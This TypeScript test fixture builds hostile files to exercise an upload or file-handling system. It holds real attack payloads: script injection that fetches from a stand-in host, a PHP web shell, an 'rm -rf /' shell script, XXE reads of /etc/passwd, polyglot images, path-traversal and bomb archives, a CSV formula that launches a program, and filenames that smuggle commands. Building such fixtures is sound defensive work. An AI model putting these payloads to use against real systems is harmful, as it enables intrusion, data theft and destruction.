// Files made to hurt, generated: active content under every disguise, polyglots, bombs, broken and lying headers, names that
// deceive. No binary lies in the repository.
import { crc32, deflateRawSync, gzipSync } from 'node:zlib'
import { png } from './pictures.ts'

export interface HostileFile { label: string; name: string; type: string; content: Buffer<ArrayBuffer> }

const bytes = (...parts: (string | number[] | Buffer)[]): Buffer<ArrayBuffer> => Buffer.concat(parts.map((part) => (typeof part === 'string' ? Buffer.from(part, 'latin1') : Buffer.from(part))))

/** A ZIP of stored or deflated entries. */
export function zip(entries: { name: string; content: Buffer }[]): Buffer<ArrayBuffer> {
  let offset = 0
  const locals: Buffer[] = []
  const central: Buffer[] = []
  for (const { name, content } of entries) {
    const packed = deflateRawSync(content)
    const file = Buffer.from(name)
    const header = Buffer.alloc(30)
    header.writeUInt32LE(0x04034b50, 0)
    header.writeUInt16LE(20, 4)
    header.writeUInt16LE(8, 8)
    header.writeUInt32LE(crc32(content), 14)
    header.writeUInt32LE(packed.length, 18)
    header.writeUInt32LE(content.length, 22)
    header.writeUInt16LE(file.length, 26)
    const directory = Buffer.alloc(46)
    directory.writeUInt32LE(0x02014b50, 0)
    header.copy(directory, 6, 4, 30)
    directory.writeUInt32LE(offset, 42)
    locals.push(header, file, packed)
    central.push(directory, file)
    offset += 30 + file.length + packed.length
  }
  const size = central.reduce((sum, part) => sum + part.length, 0)
  const end = Buffer.alloc(22)
  end.writeUInt32LE(0x06054b50, 0)
  end.writeUInt16LE(entries.length, 8)
  end.writeUInt16LE(entries.length, 10)
  end.writeUInt32LE(size, 12)
  end.writeUInt32LE(offset, 16)
  return Buffer.concat([...locals, ...central, end])
}

const docx = (body: string): Buffer<ArrayBuffer> => zip([
  { name: '[Content_Types].xml', content: Buffer.from('<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>') },
  { name: 'word/document.xml', content: Buffer.from(body) },
])
const script = '<script>document.title="owned";parent.document.title="owned";fetch("//evil.test")</script>'
const gif = (rest: string): Buffer<ArrayBuffer> => bytes('GIF89a', [1, 0, 1, 0, 0x80, 0, 0, 0, 0, 0, 0xff, 0xff, 0xff, 0x2c, 0, 0, 0, 0, 1, 0, 1, 0, 0, 2, 2, 0x44, 1, 0, 0x3b], rest)
const jpeg = (rest: string, width = 1, height = 1): Buffer<ArrayBuffer> => bytes([0xff, 0xd8, 0xff, 0xe0, 0, 16], 'JFIF', [0, 1, 1, 0, 0, 1, 0, 1, 0, 0, 0xff, 0xc0, 0, 11, 8, height >> 8, height & 0xff, width >> 8, width & 0xff, 1, 1, 0x11, 0, 0xff, 0xd9], rest)
const webp = (width: number, height: number): Buffer<ArrayBuffer> => bytes('RIFF', [30, 0, 0, 0], 'WEBPVP8X', [10, 0, 0, 0, 0, 0, 0, 0, (width - 1) & 0xff, ((width - 1) >> 8) & 0xff, (width - 1) >> 16, (height - 1) & 0xff, ((height - 1) >> 8) & 0xff, (height - 1) >> 16])
const avif = (width: number, height: number): Buffer<ArrayBuffer> => {
  const size = Buffer.alloc(8)
  size.writeUInt32BE(width, 0)
  size.writeUInt32BE(height, 4)
  return bytes([0, 0, 0, 0x1c], 'ftypavif', [0, 0, 0, 0], 'avifmif1miaf', [0, 0, 0, 0x14], 'ispe', [0, 0, 0, 0], size)
}

/** What a browser, a shell or an office program could run, or take for a page. */
const active: Record<string, Buffer<ArrayBuffer>> = {
  html: bytes(`<!doctype html><title>x</title>${script}`),
  'html in capitals': bytes(`<HTML><BODY onload=alert(1)>`),
  'html after spaces': bytes(`\n\t  <html>${script}`),
  'html after a mark': bytes([0xef, 0xbb, 0xbf], `<html>${script}`),
  'html after a comment': bytes(`<!-- x --><html>${script}`),
  'a fragment': bytes(script),
  'an iframe': bytes('<iframe src="javascript:alert(1)"></iframe>'),
  svg: bytes('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'),
  'svg as xml': bytes('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
  xml: bytes('<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>'),
  xhtml: bytes('<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>'),
  xslt: bytes('<?xml version="1.0"?><xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0"/>'),
  mathml: bytes('<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>'),
  rss: bytes('<rss version="2.0"><channel/></rss>'),
  php: bytes('<?php system($_GET["c"]); ?>'),
  asp: bytes('<%@ Page Language="C#" %>'),
  shell: bytes('#!/bin/sh\nrm -rf /\n'),
  postscript: bytes('%!PS\n(x) run'),
  rtf: bytes('{\\rtf1\\ansi{\\object\\objemb x}}'),
  'a mail with a page': bytes('MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>'),
  'a program of Windows': bytes('MZ', Buffer.alloc(100), 'PE\0\0'),
  'a program of Linux': bytes([0x7f], 'ELF', [2, 1, 1, 0], Buffer.alloc(60)),
  'a program of macOS': bytes([0xcf, 0xfa, 0xed, 0xfe], Buffer.alloc(60)),
  java: bytes([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 52], Buffer.alloc(40)),
  wasm: bytes([0, 0x61, 0x73, 0x6d, 1, 0, 0, 0]),
  flash: bytes('CWS', [10], Buffer.alloc(40)),
  gzip: Buffer.from(gzipSync(Buffer.alloc(1_000_000))),
  'an old office document': bytes([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1], Buffer.alloc(600)),
  'text with NUL': bytes('hello\0world'),
  'utf-16 text': Buffer.from('\uFEFF<html>', 'utf16le'),
  nothing: bytes(''),
}

/** One file that is two things; harmless as what it is taken for. */
const polyglots: Record<string, { content: Buffer<ArrayBuffer>; name: string; type: string }> = {
  'a GIF that is a script': { content: gif(`=1;/*${script}*/`), name: 'a.gif', type: 'image/gif' },
  'a GIF with a page': { content: gif(script), name: 'a.gif', type: 'image/gif' },
  'a JPEG with PHP': { content: jpeg('<?php system("id"); ?>'), name: 'a.jpg', type: 'image/jpeg' },
  'a JPEG with a page': { content: jpeg(`<html>${script}`), name: 'a.jpg', type: 'image/jpeg' },
  'a PNG with a page': { content: bytes(png(1, 1), script), name: 'a.png', type: 'image/png' },
  'a PNG with a ZIP': { content: bytes(png(1, 1), zip([{ name: 'a.html', content: Buffer.from(script) }])), name: 'a.png', type: 'image/png' },
  'a PDF with a page': { content: bytes(`%PDF-1.4\n%${script}\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF`), name: 'a.pdf', type: 'application/pdf' },
  'a ZIP that leaves its folder': { content: zip([{ name: '../../../etc/cron.d/x', content: Buffer.from('x') }]), name: 'a.zip', type: 'application/zip' },
  'a ZIP bomb': { content: zip(Array.from({ length: 20 }, (_, i) => ({ name: `${i}`, content: Buffer.alloc(5_000_000) }))), name: 'a.zip', type: 'application/zip' },
  'a document with an entity': { content: docx('<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>'), name: 'a.docx', type: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document' },
  'a document that is a bomb': { content: zip([{ name: '[Content_Types].xml', content: Buffer.alloc(20_000_000, ' ') }]), name: 'a.docx', type: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document' },
  'text with a page further on': { content: bytes(`hello\n${script}`), name: 'a.txt', type: 'text/plain' },
  'a table with a formula': { content: bytes('=cmd|"/c calc"!A1,2\n'), name: 'a.csv', type: 'text/csv' },
}

/** Pictures whose header is a lie, a bomb, or torn. */
const pictures: Record<string, { content: Buffer<ArrayBuffer>; name: string; type: string }> = {
  'PNG 30,000 × 30,000': { content: png(1, 1, { width: 30_000, height: 30_000 }), name: 'a.png', type: 'image/png' },
  'PNG 4 G × 4 G': { content: png(1, 1, { width: 0xffffffff, height: 0xffffffff }), name: 'a.png', type: 'image/png' },
  'PNG 0 × 0': { content: png(1, 1, { width: 0, height: 0 }), name: 'a.png', type: 'image/png' },
  'PNG cut off': { content: png(50, 50).subarray(0, 20), name: 'a.png', type: 'image/png' },
  'JPEG 65,535 × 65,535': { content: jpeg('', 65_535, 65_535), name: 'a.jpg', type: 'image/jpeg' },
  'JPEG without a frame': { content: bytes([0xff, 0xd8, 0xff, 0xe0, 0, 16], 'JFIF', [0, 1, 1, 0, 0, 1, 0, 1, 0, 0, 0xff, 0xd9]), name: 'a.jpg', type: 'image/jpeg' },
  'JPEG of endless segments': { content: bytes([0xff, 0xd8], Buffer.alloc(200_000, Buffer.from([0xff, 0xe1, 0, 2]))), name: 'a.jpg', type: 'image/jpeg' },
  'JPEG of filling': { content: bytes([0xff, 0xd8], Buffer.alloc(300_000, 0xff)), name: 'a.jpg', type: 'image/jpeg' },
  'GIF 65,535 × 65,535': { content: bytes('GIF89a', [0xff, 0xff, 0xff, 0xff, 0, 0, 0, 0x3b]), name: 'a.gif', type: 'image/gif' },
  'WebP 16 M × 16 M': { content: webp(16_777_216, 16_777_216), name: 'a.webp', type: 'image/webp' },
  'WebP cut off': { content: webp(10, 10).subarray(0, 22), name: 'a.webp', type: 'image/webp' },
  'AVIF 100,000 × 100,000': { content: avif(100_000, 100_000), name: 'a.avif', type: 'image/avif' },
  'AVIF without a size': { content: bytes([0, 0, 0, 0x1c], 'ftypavif', [0, 0, 0, 0], 'avifmif1miaf'), name: 'a.avif', type: 'image/avif' },
}

/** Names beside which a harmless content stands. */
export const deceivingNames = [
  '../../../etc/passwd.txt', '..\\..\\windows\\system32\\a.txt', '/absolute/a.txt', 'C:\\a.txt', 'a/../../b.txt', '%2e%2e%2fa.txt', '....//a.txt', 'a.txt\u0000.html', 'photo\u202Etxt.exe', '\u202Ea.txt',
  'invoice\u2066.txt', 'a\u200B.txt', ' a.txt ', '.htaccess', '.txt', '...', 'a.', 'con.txt', 'aux', 'a:b.txt', 'a|b.txt', 'a"b.txt', "a'b.txt", 'a;b.txt', 'a\tb.txt', '"; filename="evil.html', 'a\u2028b.txt',
  'ä'.repeat(300) + '.txt', '😀'.repeat(200) + '.txt', 'a.html.txt', 'a.txt.html', 'a.tar.gz', 'a.exe', 'a.php.txt', 'résumé (final).txt', 'عقد.txt', '合同.txt', '-rf.txt', '--help.txt', '$(id).txt', '`id`.txt', '<script>.txt', '&lt;.txt',
]

const disguises = [
  ['a.html', 'text/html'], ['a.svg', 'image/svg+xml'], ['a.png', 'image/png'], ['a.jpg', 'image/jpeg'], ['a.pdf', 'application/pdf'], ['a.txt', 'text/plain'], ['a.csv', 'text/csv'], ['a', ''], ['a.bin', 'application/octet-stream'],
] as const

export function hostileFiles(): HostileFile[] {
  return [
    ...Object.entries(active).flatMap(([label, content]) => disguises.map(([name, type]) => ({ label: `${label} as ${name}`, name, type, content }))),
    ...Object.entries({ ...polyglots, ...pictures }).flatMap(([label, file]) => [{ label, ...file }, { label: `${label}, undeclared`, ...file, type: '' }]),
    ...deceivingNames.map((name) => ({ label: `name ${JSON.stringify(name).slice(0, 40)}`, name, type: 'text/plain', content: bytes('hello') })),
  ]
}
